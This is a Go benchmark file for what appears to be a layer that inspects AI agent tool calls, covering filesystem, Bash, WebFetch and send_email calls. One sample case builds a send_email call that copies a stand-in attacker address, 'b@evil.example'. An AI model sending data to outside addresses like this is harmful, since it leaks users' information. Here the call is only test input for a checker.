// SPDX-License-Identifier: Apache-2.0

package tools

import (
	"fmt"
	"strings"
	"testing"
)

// BenchmarkInform states all facts of a call, with the real file system.
func BenchmarkInform(b *testing.B) {
	cfg := testConfig()
	cfg.Lstat, cfg.Readlink = nil, nil
	r := open(b, cfg)
	up := local
	up.Server = "fs"
	observe(b, r, up, listed(b, "server-filesystem.json")...)
	observe(b, r, local, define(b, `{"name":"send_email","inputSchema":{"type":"object","properties":{"to":{"type":"array"},"subject":{"type":"string"},"body":{"type":"string"}}}}`))
	for _, bm := range []struct{ name, server, tool, args string }{
		{"no arguments", "fs", "list_allowed_directories", `{}`},
		{"read a file", "fs", "read_file", `{"path":"/srv/repo/a.go"}`},
		{"write 1 KiB", "fs", "write_file", `{"path":"/srv/repo/a.go","content":"` + strings.Repeat("a", 1000) + `"}`},
		{"send 1 KiB", "files", "send_email", `{"to":["a@corp.example","b@evil.example"],"subject":"x","body":"` + strings.Repeat("a", 950) + `"}`},
		{"fetch", "claude-code", "WebFetch", `{"url":"https://docs.example.org/a?b=c","prompt":"x"}`},
		{"go test", "claude-code", "Bash", `{"command":"go test ./... -run TestX","description":"x"}`},
		{"a long command", "claude-code", "Bash", `{"command":"cd /srv/repo && git status --short && go build ./... && go test ./... 2>&1 | tail -20 && grep -rn foo src | wc -l"}`},
		{"64 KiB of commands", "claude-code", "Bash", `{"command":"` + strings.Repeat("ls a;", 13000) + `"}`},
		{"4096 leaves", "files", "send_email", `{"x":[` + strings.Repeat(`"abc",`, 4095) + `"abc"]}`},
	} {
		b.Run(bm.name, func(b *testing.B) {
			q := ask(bm.server, bm.tool, bm.args)
			b.ReportAllocs()
			for b.Loop() {
				if _, err := r.Inform(b.Context(), q); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkLookup is the path that filters a list of tools.
func BenchmarkLookup(b *testing.B) {
	r := open(b, testConfig())
	for i := range 100 {
		observe(b, r, Upstream{Server: fmt.Sprint("s", i), Transport: Stdio, Command: []string{"x"}}, define(b, toolA))
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, ok := r.Lookup("default", "s7", "a"); !ok {
			b.Fatal("not found")
		}
	}
}

// BenchmarkObserve is a list that says nothing new.
func BenchmarkObserve(b *testing.B) {
	r := open(b, testConfig())
	defs := listed(b, "server-filesystem.json")
	observe(b, r, local, defs...)
	b.Run("declare", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			observe(b, r, local)
		}
	})
	b.Run("14 tools", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			observe(b, r, local, defs...)
		}
	})
}
